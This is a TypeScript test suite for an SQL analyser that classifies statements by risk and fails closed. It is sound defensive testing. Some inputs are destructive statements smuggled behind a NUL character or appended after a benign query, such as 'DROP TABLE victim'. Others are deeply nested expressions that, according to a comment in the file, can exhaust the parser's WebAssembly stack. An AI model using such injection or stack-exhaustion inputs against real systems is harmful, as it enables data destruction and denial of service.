      [stmt({ verb: 'CREATE', object: 'trigger', tables: ['t', 'audit'], classes: ['write', 'ddl'] }), stmt({ verb: 'DELETE', tables: ['audit'], nested: true, classes: ['write'] })],
    ],
  ];

  it.each(STATEMENTS)('%s', (_what, d, sql, expected) => {
    const f = sqlFacet(sql, { dialect: d, parsers });
    expect(f.error).toBe('');
    expect(f.statements).toEqual(expected);
  });

  describe('inputs that are not SQL text', () => {
    const values: [string, unknown, string][] = [
      ['a number', 42, 'got number'],
      ['null', null, 'got null'],
      ['undefined', undefined, 'got undefined'],
      ['an object', { query: 'SELECT 1' }, 'got object'],
      ['an array', ['SELECT 1'], 'got array'],
      ['a String object', new String('SELECT 1'), 'got object'],
      ['an empty string', '', 'empty SQL string'],
      ['a NUL character', 'SELECT 1\0; DROP TABLE x', 'NUL character'],
    ];
    for (const d of SQL_DIALECTS) {
      it.each(values)(`${d}: %s is refused with a specific error`, (_what, input, phrase) => {
        const f = sqlFacet(input, { dialect: d, parsers });
        expect(f.parsed).toBe(false);
        expect(f.error).toContain(phrase);
        expect(f.dialect).toBe(d);
      });
    }

    it('refuses input one character over SQL_MAX_INPUT and names the limit', () => {
      const sql = 'SELECT 1' + ' '.repeat(SQL_MAX_INPUT - 7);
      expect(sql.length).toBe(SQL_MAX_INPUT + 1);
      const f = sqlFacet(sql, { dialect: 'postgresql', parsers });
      expect([f.parsed, f.error]).toEqual([false, `SQL is ${SQL_MAX_INPUT + 1} characters; the limit is ${SQL_MAX_INPUT}`]);
      expect(sqlFacet(sql.slice(1), { dialect: 'postgresql', parsers }).parsed).toBe(false);
      expect(sqlFacet(sql.slice(0, SQL_MAX_INPUT), { dialect: 'postgresql', parsers }).parsed).toBe(true);
    });

    it('refuses an unknown dialect and lists the supported ones', () => {
      const f = sqlFacet('SELECT 1', { dialect: 'oracle' as SqlDialect, parsers });
      expect([f.parsed, f.dialect, f.error]).toEqual([false, '', 'unknown SQL dialect "oracle"; supported: postgresql, mysql, mariadb, sqlite']);
      expect(sqlFacet('SELECT 1', undefined as unknown as SqlFacetOptions).parsed).toBe(false);
    });
  });

  describe('bounds', () => {
    it('refuses more than 1000 statements', () => {
      for (const d of SQL_DIALECTS) {
        const f = sqlFacet('SELECT 1;'.repeat(1001), { dialect: d, parsers });
        expect([d, f.parsed, f.error]).toEqual([d, false, 'more than 1000 statements; split the input']);
      }
      for (const d of ['postgresql', 'sqlite'] as const) expect(sqlFacet('SELECT 1;'.repeat(1000), { dialect: d, parsers }).statements).toHaveLength(1000);
    });

    it('refuses MySQL and SQLite parentheses nested past 100 levels before the parser recurses', () => {
      for (const d of ['mysql', 'mariadb', 'sqlite'] as const) {
        const deep = sqlFacet('SELECT ' + '('.repeat(101) + '1' + ')'.repeat(101), { dialect: d, parsers });
        expect([deep.parsed, deep.error]).toEqual([false, 'parentheses nested deeper than 100 levels']);
        expect(sqlFacet('SELECT ' + '('.repeat(100) + '1' + ')'.repeat(100), { dialect: d, parsers }).parsed).toBe(true);
      }
    });

    it('walks a deep PostgreSQL tree without recursion', () => {
      const deep = sqlFacet('SELECT ' + 'f('.repeat(600) + '1' + ')'.repeat(600), { dialect: 'postgresql', parsers });
      expect([deep.parsed, deep.functions]).toEqual([true, ['f']]);
    });

    it('refuses, before parsing, an operator chain deep enough to overflow the WebAssembly stack, and stays usable', () => {
      // Unguarded, ~10 000 levels exhaust the stack inside libpg-query; repeated, that corrupts it for every later call.
      for (const sql of [
        'SELECT ' + Array(12_000).fill('a').join('+'),
        'SELECT a' + '::int'.repeat(2_500),
        'SELECT ' + '(SELECT '.repeat(700) + '1' + ')'.repeat(700),
        'SELECT ' + 'CASE WHEN a THEN 1 ELSE '.repeat(600) + '1' + ' END'.repeat(600),
      ]) {
        const f = sqlFacet(sql, { dialect: 'postgresql', parsers });
        expect(f.parsed).toBe(false);
        expect(f.error).toMatch(/^statement too deeply nested \(or too long an operator chain\) to analyse safely: estimated depth \d+, limit 2000$/);
      }
      expect(sqlFacet('SELECT a FROM t WHERE b = 1', { dialect: 'postgresql', parsers }).tables).toEqual(['t']);
    });

    it('accepts long but flat PostgreSQL input: the depth estimate does not count list items or strings', () => {
      const inList = 'SELECT * FROM t WHERE id IN (' + Array.from({ length: 5000 }, (_, i) => i).join(', ') + ')';
      const values = 'INSERT INTO t VALUES ' + Array.from({ length: 1500 }, (_, i) => `(${i}, '+-*/<>=')`).join(', ');
      const ors = 'SELECT * FROM t WHERE ' + Array.from({ length: 1500 }, (_, i) => `id = ${i}`).join(' OR ');
      for (const sql of [inList, values, ors]) expect(sqlFacet(sql, { dialect: 'postgresql', parsers }).error).toBe('');
    });

    it('reads a long UNION chain (a deep tree) without recursion', () => {
      const sql = Array.from({ length: 1500 }, (_, i) => `SELECT a FROM t${i % 3} WHERE x`).join(' UNION ');
      const f = sqlFacet(sql, { dialect: 'postgresql', parsers });
      expect([f.parsed, f.tables, f.statements[0]?.hasWhere]).toEqual([true, ['t0', 't1', 't2'], true]);
    });
  });

  it('EMPTY_SQL_FACTS has every field, not parsed, no error, and is frozen', () => {
    expect(EMPTY_SQL_FACTS).toEqual({ parsed: false, error: '', dialect: '', statements: [], verbs: [], tables: [], functions: [], classes: [], calls: [], systemTables: [] });
    expect(Object.isFrozen(EMPTY_SQL_FACTS)).toBe(true);
    expect(Object.isFrozen(EMPTY_SQL_FACTS.verbs)).toBe(true);
  });

  it('SQL_DIALECTS lists exactly the supported dialects', () => {
    expect(SQL_DIALECTS).toEqual(['postgresql', 'mysql', 'mariadb', 'sqlite']);
  });

  describe('properties', () => {
    /** Every documented field present, with its type; unions consistent with the statements. */
    function wellFormed(f: SqlFacts, dialect: string): void {
      expect(Object.keys(f).sort()).toEqual(['calls', 'classes', 'dialect', 'error', 'functions', 'parsed', 'statements', 'systemTables', 'tables', 'verbs']);
      expect(typeof f.parsed).toBe('boolean');
      expect(typeof f.error).toBe('string');
      expect(f.dialect).toBe(dialect);
      for (const list of [f.verbs, f.tables, f.functions]) {
        expect(Array.isArray(list)).toBe(true);
        for (const x of list) expect(typeof x).toBe('string');
        expect(new Set(list).size).toBe(list.length);
      }
      for (const s of f.statements) {
        expect(Object.keys(s).sort()).toEqual(['classes', 'file', 'functions', 'hasWhere', 'nested', 'object', 'program', 'tables', 'verb']);
        expect(s.verb).toMatch(/^[A-Z][A-Z0-9_]*$/);
        expect([typeof s.hasWhere, typeof s.program, typeof s.nested, typeof s.object, typeof s.file]).toEqual(['boolean', 'boolean', 'boolean', 'string', 'string']);
        for (const n of [...s.tables, ...s.functions]) expect(n).toBe(n.toLowerCase());
      }
      if (f.parsed) {
        expect(f.error).toBe('');
        expect(f.statements.length).toBeGreaterThan(0);
        expect(f.verbs).toEqual([...new Set(f.statements.map((s) => s.verb))]);
        expect(f.tables).toEqual([...new Set(f.statements.flatMap((s) => s.tables))]);
      } else {
        expect(f.error).not.toBe('');
        expect([f.statements, f.verbs, f.tables, f.functions]).toEqual([[], [], [], []]);
      }
    }

    // Pieces that exercise every lexer path: quotes, escapes, comments, executable comments, separators.
    const PIECES = [
      'SELECT', 'DROP TABLE x', 'DELETE FROM t', 'WITH d AS (', ')', '(', ' ', '\n', ';', ',', '1', 'a.b', "'", '"', '`', '[', ']',
      '\\', '/*', '*/', '/*!', '/*M!', '--', '-- ', '#', '$$', "E'", 'PRAGMA x=1', 'EXPLAIN ', 'PREPARE s FROM ', 'DO ', 'INTO OUTFILE ',
      'REVOKE ALL ON a FROM b', 'CREATE TRIGGER tr AFTER INSERT ON t BEGIN ', 'END', '\u00a0', '\u200b', 'é', 'Ｄ', '\uD800',
    ];
    const sqlish = fc.array(fc.constantFrom(...PIECES), { maxLength: 40 }).map((a) => a.join(''));
    const dialect = fc.constantFrom(...SQL_DIALECTS);

    it('never throws and always returns well-formed facts for SQL-like strings', () => {
      fc.assert(
        fc.property(sqlish, dialect, (sql, d) => {
          wellFormed(sqlFacet(sql, { dialect: d, parsers }), d);
        }),
        { numRuns: 1000 },
      );
    });

    it('never throws and always returns well-formed facts for arbitrary strings', () => {
      fc.assert(
        fc.property(fc.string({ unit: 'binary', maxLength: 200 }), dialect, (sql, d) => {
          wellFormed(sqlFacet(sql, { dialect: d, parsers }), d);
        }),
        { numRuns: 400 },
      );
    });

    it('never throws on arbitrary values of any type', () => {
      fc.assert(
        fc.property(fc.anything(), dialect, (value, d) => {
          const f = sqlFacet(value, { dialect: d, parsers });
          wellFormed(f, d);
          if (typeof value !== 'string') expect(f.parsed).toBe(false);
        }),
        { numRuns: 500 },
      );
    });

    it('is deterministic: the same input gives the same facts', () => {
      fc.assert(
        fc.property(sqlish, dialect, (sql, d) => {
          expect(sqlFacet(sql, { dialect: d, parsers })).toEqual(sqlFacet(sql, { dialect: d, parsers }));
        }),
        { numRuns: 300 },
      );
    });

    it('a second statement after a complete first one is always seen', () => {
      const first = fc.constantFrom('SELECT 1', "SELECT 'a''b'", 'SELECT * FROM t WHERE a = 1', 'SELECT 1 /* c */', 'UPDATE t SET a = 2');
      const sep = fc.constantFrom(';', '; ', ';\n', ' ;', ';/* x */', ';-- x\n');
      fc.assert(
        fc.property(first, sep, dialect, (a, s, d) => {
          const f = sqlFacet(`${a}${s}DROP TABLE victim`, { dialect: d, parsers });
          expect(f.verbs).toContain('DROP');
          expect(f.tables).toContain('victim');
        }),
      );
    });
  });
});

describe('the facet engine without the SQL analyser loaded', () => {
  // sql-facts.ts alone, in a fresh process: nothing has loaded sql.ts, so there is no analyser.
  it('answers parsed: false with every class (fails closed), and says how to load it', () => {
    const script = `import { analyseSql } from ${JSON.stringify(fileURLToPath(new URL('../../src/facets/sql-facts.ts', import.meta.url)))};
const parsers = { dialects: new Set(['postgresql']), postgres: undefined, nodeSql: () => undefined };
process.stdout.write(JSON.stringify(analyseSql('SELECT 1', { dialect: 'postgresql', parsers })));`;
    const r = spawnSync(process.execPath, ['--input-type=module', '-e', script], { encoding: 'utf8' });
    expect(r.status, r.stderr).toBe(0);
    const facts = JSON.parse(r.stdout) as { parsed: boolean; error: string; dialect: string; classes: string[]; verbs: string[] };
    expect(facts.parsed).toBe(false);
    expect(facts.dialect).toBe('postgresql');
    expect(facts.classes).toEqual(['read', 'write', 'ddl', 'admin', 'lock', 'file', 'network', 'exec']);
    expect(facts.verbs).toEqual([]);
    expect(facts.error).toContain('loadSqlParsers()');
  });

  it('is the analyser once sql.ts has loaded (as loadSqlParsers() makes sure)', async () => {
    const { analyseSql } = await import('../../src/facets/sql-facts.js');
    const parsers = await loadSqlParsers({ dialects: ['postgresql'] });
    expect(analyseSql('DELETE FROM t', { dialect: 'postgresql', parsers })).toEqual(sqlFacet('DELETE FROM t', { dialect: 'postgresql', parsers }));
  });
});
